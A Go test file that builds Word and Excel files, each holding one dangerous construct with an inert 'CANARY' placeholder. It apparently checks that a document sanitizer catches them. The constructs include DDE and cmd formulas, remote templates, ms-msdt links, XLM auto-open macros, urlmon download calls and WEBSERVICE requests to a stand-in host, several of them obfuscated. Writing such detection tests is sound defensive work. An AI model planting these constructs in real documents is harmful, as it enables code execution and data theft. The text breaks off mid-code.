package canary

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

const (
	wordDoc    = "word/document.xml"
	wordSet    = "word/settings.xml"
	book       = "xl/workbook.xml"
	sheet      = "xl/worksheets/sheet1.xml"
	slide      = "ppt/slides/slide1.xml"
	deck       = "ppt/presentation.xml"
	office     = "application/vnd.openxmlformats-officedocument."
	macroWord  = "application/vnd.ms-word.document.macroEnabled.main+xml"
	macroSheet = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
	macroSlide = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
	cfbHead    = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
	vba        = "application/vnd.ms-office.vbaProject"
	blob       = "application/octet-stream"
	mainNS     = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
)

// change is what a row does to a package.
type change func(p *pkg)

// of makes rows of one kind.
type maker struct {
	tb    testing.TB
	kind  string
	shown []string
	rows  []row
}

func (m *maker) add(what string, f change) { m.as(m.kind, what, f) }

// as is add for another extension.
func (m *maker) as(ext, what string, f change) {
	kind := m.kind
	m.rows = append(m.rows, row{what: what, ext: ext, shown: m.shown, make: func(c string) []byte {
		p := openPackage(m.tb, kind)
		f(p)
		return p.bytes(c)
	}})
}

// none is as for what has no safe form.
func (m *maker) none(what string, f change) {
	m.add(what, f)
	m.rows[len(m.rows)-1].none = true
}

// inWord adds to the end of the text.
func inWord(xml string) change {
	return func(p *pkg) { p.sub(wordDoc, "<w:sectPr>", xml+"<w:sectPr>") }
}

// field is a complex field with its instruction in runs.
func field(result string, runs ...string) string {
	var b strings.Builder
	b.WriteString(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>`)
	for _, r := range runs {
		b.WriteString(`<w:r><w:rPr><w:noProof/></w:rPr><w:instrText xml:space="preserve">` + r + `</w:instrText></w:r>`)
	}
	return b.String() + `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>` + result + `</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
}

// linked adds a relationship from a part and what refers to it, where ID is its id.
func linked(part, kind, target, before, xml string) change {
	return func(p *pkg) {
		id := p.rel(part, kind, target)
		p.sub(part, before, strings.ReplaceAll(xml, "ID", id)+before)
	}
}

const blip = `<w:p><w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0"><wp:extent cx="914400" cy="914400"/><wp:docPr id="9" name="Picture"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="9" name="P"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>%s<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`

func wordRows(tb testing.TB) []row {
	tb.Helper()
	m := &maker{tb: tb, kind: "docx", shown: sentences}
	end := "<w:sectPr>"
	hyper := `<w:p><w:hyperlink r:id="ID"><w:r><w:t>link text</w:t></w:r></w:hyperlink></w:p>`

	macro := func(name, mime, content string) change {
		return func(p *pkg) {
			p.sub("[Content_Types].xml", office+"wordprocessingml.document.main+xml", macroWord)
			p.add(wordDoc, msRels+"vbaProject", name, mime, content)
		}
	}
	m.as("docm", "VBA project", macro("word/vbaProject.bin", vba, cfbHead+"CANARY_VBA_PROJECT"))
	m.as("docm", "VBA project under another name and extension", macro("word/fonts/font1.odttf", vba, cfbHead+"CANARY"))
	m.as("dotm", "VBA project, macro template", func(p *pkg) {
		macro("word/vbaProject.bin", vba, "CANARY")(p)
		p.sub("[Content_Types].xml", macroWord, "application/vnd.ms-word.template.macroEnabledTemplate.main+xml")
	})
	m.add("VBA project by extension default, target with dots", func(p *pkg) {
		p.sub("[Content_Types].xml", "<Default", `<Default ContentType="`+strings.ToUpper(vba)+`" Extension="BIN"/><Default`)
		p.put("word/Code.bin", cfbHead+"CANARY")
		p.rel(wordDoc, msRels+"vbaProject", "../word/./Code.bin")
	})
	m.add("VBA signature", func(p *pkg) {
		p.add(wordDoc, msRels+"vbaProject", "word/vbaProject.bin", vba, cfbHead)
		p.add("word/vbaProject.bin", msRels+"vbaProjectSignature", "word/vbaProjectSignature.bin", "application/vnd.ms-office.vbaProjectSignature", "CANARY")
	})
	m.add("vbaData of a project", func(p *pkg) {
		p.add(wordDoc, msRels+"vbaProject", "word/vbaProject.bin", vba, cfbHead)
		p.add("word/vbaProject.bin", msRels+"wordVbaData", "word/vbaData.xml", "application/vnd.ms-word.vbaData+xml", `<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:mcds><wne:mcd wne:macroName="PROJECT.CANARY" wne:name="x"/></wne:mcds></wne:vbaSuppData>`)
	})
	m.add("template from afar", func(p *pkg) {
		id := p.rel(wordSet, "attachedTemplate", "!https://CANARY.example/t.dotm")
		p.sub(wordSet, "<w:zoom", `<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="`+id+`"/><w:zoom`)
	})
	m.add("template from afar, other prefix, UTF-16, single quotes", func(p *pkg) {
		id := p.rel(wordSet, "attachedTemplate", "!file://CANARY@ssl/t.dotm")
		p.parts[wordSet] = []byte(`<?xml version='1.0' encoding="UTF-8"?><q:settings xmlns:q='` + mainNS + `'><q:attachedTemplate x:id='` + id + `' xmlns:x='http://schemas.openxmlformats.org/officeDocument/2006/relationships'/></q:settings>`)
		p.wide(wordSet).wide(relsOf(wordSet))
	})
	for _, code := range []string{
		`DDEAUTO "C:\\Programs\\..\\cmd.exe" "/k CANARY"`, `ddeauto excel CANARY`, ` DDE Excel "CANARY" A1`, `INCLUDEPICTURE "https://CANARY.example/p.png" \d`,
		`INCLUDETEXT "\\\\CANARY\\share\\a.docx"`, `LINK Excel.Sheet.12 "CANARY.xlsx" "A1" \a \f 0`, `IMPORT "CANARY.wmf"`, `DATABASE \d "CANARY.mdb" \c "DSN=x"`,
		`RD "CANARY.docx"`, `MACROBUTTON CANARY Click`, `PRINT "CANARY"`, `ADDIN CANARY`, `HTMLCONTROL CANARY`, `HYPERLINK "file:///CANARY"`,
		`HYPERLINK "javascript:CANARY"`, `HYPERLINK \\\\CANARY\\x`, `IF "1" = "1" "x" "DDEAUTO cmd CANARY"`, `AUTOTEXT CANARY`, `USERADDRESS CANARY`,
	} {
		if strings.HasPrefix(code, "IF") || strings.HasPrefix(code, "AUTOTEXT") || strings.HasPrefix(code, "USERADDRESS") {
			continue // compute from the document itself: they stay
		}
		m.add("field "+code, inWord(field("result", code)))
	}
	m.add("field DDE, letter by letter", inWord(field("result", "D", "D", "E", "A", "U", "T", "O ", `cmd "CANARY"`)))
	m.add("field DDE, entities", inWord(field("result", `&#x44;&#68;&#x000045; "CANARY"`)))
	m.add("field DDE in fldSimple of another prefix", inWord(`<w:p><z:fldSimple xmlns:z="`+mainNS+`" z:instr="DDE&#x20;cmd&#10;CANARY"><w:r><w:t>result</w:t></w:r></z:fldSimple></w:p>`))
	m.add("field DDE over two paragraphs", inWord(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAU</w:instrText></w:r></w:p><w:p><w:r><w:instrText>TO cmd CANARY</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`))
	m.add("field DDE without an end", inWord(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE cmd CANARY</w:instrText></w:r></w:p>`))
	m.add("field DDE with a comment inside", inWord(field("result", `DD<!-- x -->E cmd CANARY`)))
	m.add("field DDE between field and result of a harmless one", inWord(strings.Replace(field("result", "PAGE "), `<w:r><w:fldChar w:fldCharType="separate"/>`, strings.TrimSuffix(strings.TrimPrefix(field("x", "DDE cmd CANARY"), "<w:p>"), "</w:p>")+`<w:r><w:fldChar w:fldCharType="separate"/>`, 1)))
	m.add("field DDE in a footnote", func(p *pkg) {
		p.add(wordDoc, "footnotes", "word/footnotes.xml", office+"wordprocessingml.footnotes+xml", `<w:footnotes xmlns:w="`+mainNS+`"><w:footnote w:id="1">`+field("note", "DDEAUTO cmd CANARY")+`</w:footnote></w:footnotes>`)
	})
	m.add("field DDE in a header", func(p *pkg) {
		id := p.add(wordDoc, "header", "word/header1.xml", office+"wordprocessingml.header+xml", `<w:hdr xmlns:w="`+mainNS+`">`+field("head", "DDEAUTO cmd CANARY")+`</w:hdr>`)
		p.sub(wordDoc, "<w:type", `<w:headerReference w:type="default" r:id="`+id+`"/><w:type`)
	})
	m.add("field DDE in a text box fallback", inWord(`<w:p><w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing/></mc:Choice><mc:Fallback><w:pict><v:shape><v:textbox><w:txbxContent>`+field("boxed", "DDEAUTO cmd CANARY")+`</w:txbxContent></v:textbox></v:shape></w:pict></mc:Fallback></mc:AlternateContent></w:r></w:p>`))
	for what, target := range map[string]string{
		"file": "!file:///c:/CANARY.exe", "javascript, mixed case": "!JaVaScRiPt:CANARY()", "javascript, tab": "!java&#9;script:CANARY",
		"vbscript": "!vbscript:CANARY", "data": "!data:text/html,CANARY", "UNC": `!\\CANARY\s`, "msdt": "!ms-msdt:/id CANARY", "search": "!search-ms:query=CANARY",
		"percent": "!file%3A///CANARY", "office": "!ms-word:ofe|u|http://CANARY.example/x", "mhtml": "!mhtml:http://CANARY.example/x!x-usc:y", "slashes": "!//CANARY.example/share",
		"leading space": "! file:///CANARY", "about": "!about:CANARY",
	} {
		m.add("link, "+what, linked(wordDoc, "hyperlink", target, end, hyper))
	}
	m.add("picture from afar", linked(wordDoc, "image", "!https://CANARY.example/a.png", end, fmt.Sprintf(blip, `<a:blip r:link="ID"/>`)))
	m.add("picture from afar, embedded", linked(wordDoc, "image", "!https://CANARY.example/a.png", end, fmt.Sprintf(blip, `<a:blip r:embed="ID"/>`)))
	m.add("picture from afar, no mode", linked(wordDoc, "image", "https://CANARY.example/a.png", end, fmt.Sprintf(blip, `<a:blip r:link="ID"/>`)))
	m.add("picture from afar in VML", linked(wordDoc, "image", "!https://CANARY.example/a.png", end, `<w:p><w:r><w:pict><v:shape style="width:10pt;height:10pt"><v:imagedata r:id="ID" o:title="x"/></v:shape></w:pict></w:r></w:p>`))
	m.add("VML fill from afar", linked(wordDoc, "image", "!https://CANARY.example/a.png", end, `<w:p><w:r><w:pict><v:rect><v:fill r:id="ID" type="frame"/></v:rect></w:pict></w:r></w:p>`))
	m.add("VML addresses", inWord(`<w:p><w:r><w:pict><v:shape href="file://CANARY/a"><v:imagedata src="https://CANARY.example/b.png"/></v:shape></w:pict></w:r></w:p>`))
	m.add("svg blip from afar", linked(wordDoc, "image", "!https://CANARY.example/a.svg", end, fmt.Sprintf(blip, `<a:blip><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="ID"/></a:ext></a:extLst></a:blip>`)))
	m.add("svg in a part, scripted", func(p *pkg) {
		id := p.add(wordDoc, "image", "word/media/image1.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script>CANARY</script><rect width="5" height="5"/></svg>`)
		p.sub(wordDoc, end, fmt.Sprintf(blip, `<a:blip r:embed="`+id+`"/>`)+end)
	})
	ole := `<w:p><w:r><w:object><v:shape id="s1" style="width:50pt;height:50pt"/><o:OLEObject Type="%s" ProgID="%s" ShapeID="s1" DrawAspect="Icon" ObjectID="_1" r:id="%s"/></w:object></w:r></w:p>`
	for _, prog := range []string{"Package", "Equation.3", "OTKLOADR.WRAssembly.1", "Shell.Explorer.1", "AcroExch.Document.DC"} {
		m.add("OLE object "+prog, func(p *pkg) {
			id := p.add(wordDoc, "oleObject", "word/embeddings/oleObject1.bin", office+"oleObject", cfbHead+"CANARY")
			inWord(fmt.Sprintf(ole, "Embed", prog, id))(p)
		})
	}
	for what, change := range map[string]func(c *cfb, word string){
		"":                    func(*cfb, string) {},
		"a strange stream":    func(c *cfb, word string) { c.put([]byte(word), "\x03Strange") },
		"a program's data":    func(c *cfb, word string) { c.put([]byte(word), "\x01Ole10Native") },
		"a picture's text":    func(c *cfb, word string) { c.put(presentation(word, ""), "\x02OlePres000") },
		"behind a picture":    func(c *cfb, word string) { c.put(presentation("", word), "\x02OlePres000") },
		"a storage beside it": func(c *cfb, word string) { c.put([]byte(word), "Macros", "VBA", "dir") },
	} {
		m.add("package in a compound file, "+what, func(p *pkg) {
			id := p.add(wordDoc, "oleObject", "word/embeddings/oleObject1.bin", office+"oleObject", "")
			inWord(fmt.Sprintf(ole, "Embed", "Word.Document.12", id))(p)
			p.lateBytes("word/embeddings/oleObject1.bin", func(word string) []byte {
				inner := openPackage(tb, "docx")
				macro("word/vbaProject.bin", vba, "CANARY")(inner)
				c := &cfb{tb: tb, root: &dirent{name: "Root Entry", dir: true}}
				c.put(inner.bytes(word), "Package")
				change(c, word)
				return c.write()
			})
		})
	}
	m.add("OLE object of an odd place and name", func(p *pkg) {
		id := p.add(wordDoc, "oleObject", "docs/object.dat", blob, cfbHead+"CANARY")
		inWord(fmt.Sprintf(ole, "Embed", "Package", id))(p)
	})
	m.add("OLE link, updated always", func(p *pkg) {
		id := p.rel(wordDoc, "oleObject", "!https://CANARY.example/x.html!")
		inWord(strings.Replace(fmt.Sprintf(ole, "Link", "htmlfile", id), "/></w:object>", ` UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType><o:LockedField>false</o:LockedField><o:FieldCodes>\f CANARY</o:FieldCodes></o:OLEObject></w:object>`, 1))(p)
	})
	m.add("package that is a program", func(p *pkg) {
		id := p.add(wordDoc, "package", "word/embeddings/report.pdf", "application/pdf", "MZ\x90\x00\x03CANARY")
		inWord(fmt.Sprintf(ole, "Embed", "Package", id))(p)
	})
	m.add("ActiveX control", func(p *pkg) {
		id := p.add(wordDoc, "control", "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", `<ax:ocx ax:classid="{CANARY}" xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>`)
		p.add("word/activeX/activeX1.xml", msRels+"activeXControlBinary", "word/activeX/activeX1.bin", "application/vnd.ms-office.activeX", "CANARY")
		inWord(`<w:p><w:r><w:object><v:shape style="width:9pt"/><w:control r:id="` + id + `" w:name="CANARY" w:shapeid="s"/></w:object></w:r></w:p>`)(p)
	})
	for what, chunk := range map[string][3]string{
		"mhtml":       {"word/c.mht", "message/rfc822", "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>CANARY</script>"},
		"html":        {"word/c.htm", "text/html", "<html><body><p>chunk text</p><iframe src='https://CANARY.example'></iframe></body></html>"},
		"rtf":         {"word/c.rtf", "application/rtf", `{\rtf1 chunk text{\field{\*\fldinst DDEAUTO cmd CANARY}{\fldrslt x}}}`},
		"text as rtf": {"word/c.txt", "text/plain", `{\rtf1 chunk text{\object\objemb{\*\objdata 01050000` + "CANARY" + `}}}`},
	} {
		m.add("altChunk, "+what, func(p *pkg) {
			id := p.add(wordDoc, "aFChunk", chunk[0], chunk[1], chunk[2])
			inWord(`<w:altChunk r:id="` + id + `"/>`)(p)
		})
	}
	m.add("altChunk, document with macros", func(p *pkg) {
		inner := openPackage(tb, "docx")
		macro("word/vbaProject.bin", vba, "CANARY")(inner)
		id := p.add(wordDoc, "aFChunk", "word/c.docx", office+"wordprocessingml.document", "")
		p.late("word/c.docx", inner)
		inWord(`<w:altChunk r:id="` + id + `"/>`)(p)
	})
	m.add("altChunk from afar", linked(wordDoc, "aFChunk", "!https://CANARY.example/c.html", end, `<w:altChunk r:id="ID"/>`))
	m.add("subdocument", linked(wordDoc, "subDocument", "!CANARY.docx", end, `<w:subDoc r:id="ID"/>`))
	m.add("frameset", func(p *pkg) {
		p.add(wordDoc, "webSettings", "word/webSettings.xml", office+"wordprocessingml.webSettings+xml", `<w:webSettings xmlns:w="`+mainNS+`" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:frameset><w:frame><w:sourceFileName r:id="rIdX2"/></w:frame></w:frameset></w:webSettings>`)
		p.rel("word/webSettings.xml", "frame", "!https://CANARY.example/f")
	})
	m.add("mail merge", func(p *pkg) {
		id := p.rel(wordSet, "mailMergeSource", "!file:///CANARY.mdb")
		p.sub(wordSet, "<w:zoom", `<w:mailMerge xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:connectString w:val="Provider=CANARY"/><w:query w:val="SELECT CANARY"/><w:dataSource r:id="`+id+`"/></w:mailMerge><w:zoom`)
	})
	m.add("saved through a style sheet", func(p *pkg) {
		id := p.rel(wordSet, "transform", "!https://CANARY.example/x.xsl")
		p.sub(wordSet, "<w:zoom", `<w:saveThroughXslt xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="`+id+`"/><w:zoom`)
	})
	m.add("schema from afar", func(p *pkg) {
		p.sub(wordSet, "<w:compat>", `<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema sl:uri="urn:x" sl:schemaLocation="https://CANARY.example/x.xsd" sl:manifestLocation="https://CANARY.example/m.xml"/></sl:schemaLibrary><w:compat>`)
	})
	for what, part := range map[string][4]string{
		"custom UI":      {"", msRels + "ui/extensibility", "customUI/customUI.xml", `<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="CANARY"/>`},
		"custom UI 14":   {"", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml", `<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="CANARY"/>`},
		"quick access":   {"", msRels + "ui/userCustomization", "userCustomization/customUI.xml", `<customUI onLoad="CANARY"/>`},
		"key map":        {wordDoc, msRels + "keyMapCustomizations", "word/customizations.xml", `<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:keymaps><wne:keymap wne:kcmPrimary="0241"><wne:macro wne:macroName="CANARY"/></wne:keymap></wne:keymaps></wne:tcg>`},
		"toolbars":       {"word/customizations.xml", msRels + "attachedToolbars", "word/attachedToolbars.bin", "CANARY"},
		"task panes":     {"", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml", `<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11"><x>CANARY</x></wetp:taskpanes>`},
		"web extension":  {"word/webextensions/taskpanes.xml", "http://schemas.microsoft.com/office/2011/relationships/webextension", "word/webextensions/webextension1.xml", `<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{CANARY}"/>`},
		"jsa project":    {wordDoc, "http://schemas.onlyoffice.com/jsaProject", "word/jsaProject.bin", "CANARY"},
		"unknown binary": {wordDoc, "https://example.org/rel/x", "word/blob.bin", "CANARY"},
		"printer":        {wordDoc, "printerSettings", "word/printerSettings1.bin", "CANARY"},
		"thumbnail":      {"", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail", "docProps/thumbnail.emf", "CANARY"},
	} {
		m.add(what, func(p *pkg) {
			if from := part[0]; from != "" && p.parts[from] == nil {
				p.add(wordDoc, msRels+"keyMapCustomizations", from, "application/vnd.ms-word.keyMapCustomizations+xml", "<a/>")
			}
			p.add(part[0], part[1], part[2], blob, part[3])
		})
	}
	m.add("unknown external relationship", func(p *pkg) { p.rel(wordDoc, "https://example.org/rel/y", "!https://CANARY.example/") })
	m.add("external relationship of the package", func(p *pkg) { p.rel("", "officeDocument", "!https://CANARY.example/x.docx") })
	m.add("relationship with a mode in other letters", func(p *pkg) {
		p.rel(wordDoc, "attachedTemplate", `https://CANARY.example/t.dotm" TargetMode="external`)
	})
	m.add("processing instruction", func(p *pkg) { p.sub(wordDoc, "<w:body>", `<?mso-application progid="CANARY"?><w:body>`) })
	m.add("xml:base", func(p *pkg) { p.sub(wordDoc, "<w:body>", `<w:body xml:base="https://CANARY.example/">`) })
	m.add("doctype without a subset", func(p *pkg) {
		p.sub("word/styles.xml", "<w:styles", `<!DOCTYPE styles SYSTEM "https://CANARY.example/x.dtd"><w:styles`)
	})
	m.add("doctype with an entity from afar", func(p *pkg) {
		p.sub("word/styles.xml", "<w:styles", `<!DOCTYPE styles [<!ENTITY x SYSTEM "file:///CANARY">]><w:styles`)
	})
	m.add("orphan", func(p *pkg) { p.put("word/extra/CANARY.xml", "<a>CANARY</a>") })
	m.add("part without a content type", func(p *pkg) { p.put("CANARY", "CANARY") })
	m.add("bytes behind the archive", func(p *pkg) { p.tail = []byte("CANARY") })
	m.add("bytes before the archive", func(p *pkg) { p.head = []byte("CANARYCANARY\n") })
	m.add("form field macros", inWord(`<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="f"/><w:entryMacro w:val="CANARY"/><w:exitMacro w:val="CANARY"/><w:textInput/></w:ffData></w:fldChar></w:r><w:r><w:instrText>FORMTEXT</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`))
	m.add("data behind a content control", func(p *pkg) {
		p.add(wordDoc, "customXml", "customXml/item1.xml", "application/xml", `<?xml-stylesheet href="https://CANARY.example/x.xsl"?><a>bound</a>`)
	})
	m.add("chart of data from afar", func(p *pkg) {
		p.add(wordDoc, "chart", "word/charts/chart1.xml", office+"drawingml.chart+xml", `<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><c:chart/><c:externalData r:id="rIdX2"/></c:chartSpace>`)
		p.rel("word/charts/chart1.xml", "oleObject", "!file:///CANARY.xlsx")
	})
	m.add("hyperlink base", func(p *pkg) {
		p.sub("docProps/app.xml", "</Properties>", "<HyperlinkBase>file:///CANARY/</HyperlinkBase></Properties>")
	})
	m.add("movie from afar", linked(wordDoc, "video", "!https://CANARY.example/v.mp4", end, `<w:p><w:r><w:drawing><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=&quot;https://CANARY.example&quot;&gt;"/></w:drawing></w:r></w:p>`))
	m.as("xml", "flat OPC with macros", func(p *pkg) { p.flat = true; macro("word/vbaProject.bin", vba, cfbHead+"CANARY")(p) })
	return m.rows
}

// inSheet changes cell B2 into one with a formula.
func inSheet(formula string) change {
	return func(p *pkg) {
		p.sub(sheet, "</sheetData>", `<row r="9"><c r="A9" t="str">`+formula+`<v>cached value</v></c></row></sheetData>`)
	}
}

func excelRows(tb testing.TB) []row {
	tb.Helper()
	m := &maker{tb: tb, kind: "xlsx", shown: sentences}
	plain := m.shown
	m.as("xlsm", "VBA project", func(p *pkg) {
		p.sub("[Content_Types].xml", office+"spreadsheetml.sheet.main+xml", macroSheet)
		p.add(book, msRels+"vbaProject", "xl/vbaProject.bin", vba, cfbHead+"CANARY")
	})
	for what, kind := range map[string][3]string{
		"XLM sheet":               {msRels + "xlMacrosheet", "application/vnd.ms-excel.macrosheet+xml", "xl/macrosheets/sheet1.xml"},
		"international XLM sheet": {msRels + "xlIntlMacrosheet", "application/vnd.ms-excel.intlmacrosheet+xml", "xl/macrosheets/intlsheet1.xml"},
		"dialog sheet":            {rels + "dialogsheet", office + "spreadsheetml.dialogsheet+xml", "xl/dialogsheets/sheet1.xml"},
		"XLM sheet as worksheet":  {rels + "worksheet", "application/vnd.ms-excel.macrosheet+xml", "xl/worksheets/sheet7.xml"},
	} {
		m.add(what, func(p *pkg) {
			id := p.add(book, kind[0], kind[2], kind[1], `<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("CANARY")</f></c></row></sheetData></xm:macrosheet>`)
			p.sub(book, "</sheets>", `<sheet name="Macro1" sheetId="9" state="veryHidden" r:id="`+id+`"/></sheets><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames>`)
		})
	}
	for what, name := range map[string]string{
		"auto open":              `<definedName name="_xlnm.Auto_Open">Numbers!CANARY</definedName>`,
		"auto close, mixed case": `<definedName name="aUtO_cLoSe" hidden="1">Numbers!CANARY</definedName>`,
		"function":               `<definedName name="CANARY" function="1" vbProcedure="1">#NAME?</definedName>`,
		"xlm":                    `<definedName name="x" xlm="true">CANARY()</definedName>`,
		"call":                   `<definedName name="x">CALL("kernel32","CANARY","J")</definedName>`,
		"other workbook":         `<definedName name="x">'file:///CANARY/[a.xlsx]S'!$A$1</definedName>`,
	} {
		m.add("defined name, "+what, func(p *pkg) { p.sub(book, "</sheets>", "</sheets><definedNames>"+name+"</definedNames>") })
	}
	m.shown = append([]string{"cached value"}, plain...)
	for what, f := range map[string]string{
		"DDE": `<f>cmd|'/c CANARY'!A0</f>`, "DDE, quoted": `<f>'cmd'|'/c CANARY'!'A0'</f>`, "DDE, spaces": `<f> cmd | ' /c CANARY' ! A0</f>`, "DDE in a sum": `<f>SUM(1,MSEXCEL|'\..\CANARY'!'')</f>`,
		"WEBSERVICE": `<f>_xlfn.WEBSERVICE("https://CANARY.example/"&amp;B1)</f>`, "WEBSERVICE, CDATA": `<f><![CDATA[_xlfn.WEBSERVICE("https://CANARY.example")]]></f>`,
		"WEBSERVICE, entities and space": `<f>_xlfn.WEB&#x53;ERVICE ("https://CANARY.example")</f>`, "FILTERXML": `<f>_xlfn.FILTERXML("CANARY","//a")</f>`,
		"RTD": `<f>RTD("CANARY.server",,"x")</f>`, "CALL": `<f>CALL("urlmon","URLDownloadToFileA","CANARY")</f>`, "REGISTER": `<f>_xludf.REGISTER("CANARY","x")</f>`, "REGISTER.ID": `<f>REGISTER.ID("CANARY","x")</f>`,
		"HYPERLINK file": `<f>HYPERLINK("file:///CANARY","x")</f>`, "HYPERLINK built": `<f>HYPERLINK("java"&amp;"script:CANARY","x")</f>`, "HYPERLINK UNC": `<f>HYPERLINK("\\CANARY\s","x")</f>`,
		"IMAGE": `<f>_xlfn.IMAGE("https://CANARY.example/x.png")</f>`, "array": `<f t="array" ref="A9">_xlfn.WEBSERVICE("https://CANARY.example")</f>`,
		"external path": `<f>'https://CANARY.example/[b.xlsx]S'!A1</f>`, "EXEC": `<f>EXEC("CANARY")</f>`, "IMPORTDATA": `<f>_xludf.DUMMYFUNCTION("IMPORTDATA(""https://CANARY.example"")")</f>`,
		"SQL.REQUEST": `<f>SQL.REQUEST("DSN=CANARY",,2,"x")</f>`, "CUBEVALUE": `<f>CUBEVALUE("CANARY","[x]")</f>`, "STOCKHISTORY": `<f>_xlfn.STOCKHISTORY("CANARY",1)</f>`, "PY": `<f>_xlfn._xlws.PY("CANARY",0)</f>`,
	} {
		if what == "STOCKHISTORY" || what == "CUBEVALUE" || what == "IMPORTDATA" {
			continue // work through services or connections that are named elsewhere
		}
		m.add("formula "+what, inSheet(f))
	}
	m.shown = plain
	m.add("formula with another prefix, UTF-16", func(p *pkg) {
		inSheet(`<f>_xlfn.WEBSERVICE("https://CANARY.example")</f>`)(p)
		p.all(sheet, "<f>", "<q:f>").all(sheet, "</f>", "</q:f>").sub(sheet, "<worksheet ", `<worksheet xmlns:q="http://schemas.openxmlformats.org/spreadsheetml/2006/main" `).wide(sheet)
	})
	m.add("formula in a conditional format", func(p *pkg) {
		p.sub(sheet, "<printOptions", `<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("CANARY")=1</formula></cfRule></conditionalFormatting><printOptions`)
	})
	m.add("formula in an extension", func(p *pkg) {
		p.sub(sheet, "</worksheet>", `<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"><x14:conditionalFormattings><x14:conditionalFormatting xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:cfRule type="expression" id="{A}"><xm:f>cmd|'/c CANARY'!A0</xm:f></x14:cfRule><xm:sqref>A1</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst></worksheet>`)
	})
	m.add("formula of a validation", func(p *pkg) {
		p.sub(sheet, "<printOptions", `<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>CALL("CANARY")</formula1></dataValidation></dataValidations><printOptions`)
	})
	extern := func(content, target string) change {
		return func(p *pkg) {
			id := p.add(book, "externalLink", "xl/externalLinks/externalLink1.xml", office+"spreadsheetml.externalLink+xml", `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">`+content+`</externalLink>`)
			if target != "" {
				p.rel("xl/externalLinks/externalLink1.xml", "externalLinkPath", target)
			}
			p.sub(book, "</sheets>", `</sheets><externalReferences><externalReference r:id="`+id+`"/></externalReferences>`)
			inSheet(`<f>[1]S!A1</f>`)(p)
		}
	}
	m.add("external workbook", extern(`<externalBook r:id="rIdX2"><sheetNames><sheetName val="CANARY"/></sheetNames></externalBook>`, "!https://CANARY.example/b.xlsx"))
	m.add("DDE link", extern(`<ddeLink ddeService="cmd" ddeTopic="/c CANARY"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>`, ""))
	m.add("OLE link", extern(`<oleLink r:id="rIdX2" progId="CANARY"><oleItems/></oleLink>`, "!file:///CANARY"))
	for what, part := range map[string][4]string{
		"connections":   {book, "connections", "xl/connections.xml", `<connections><connection id="1" name="c" refreshOnLoad="1"><dbPr connection="Provider=MSDASQL;CANARY" command="x"/></connection></connections>`},
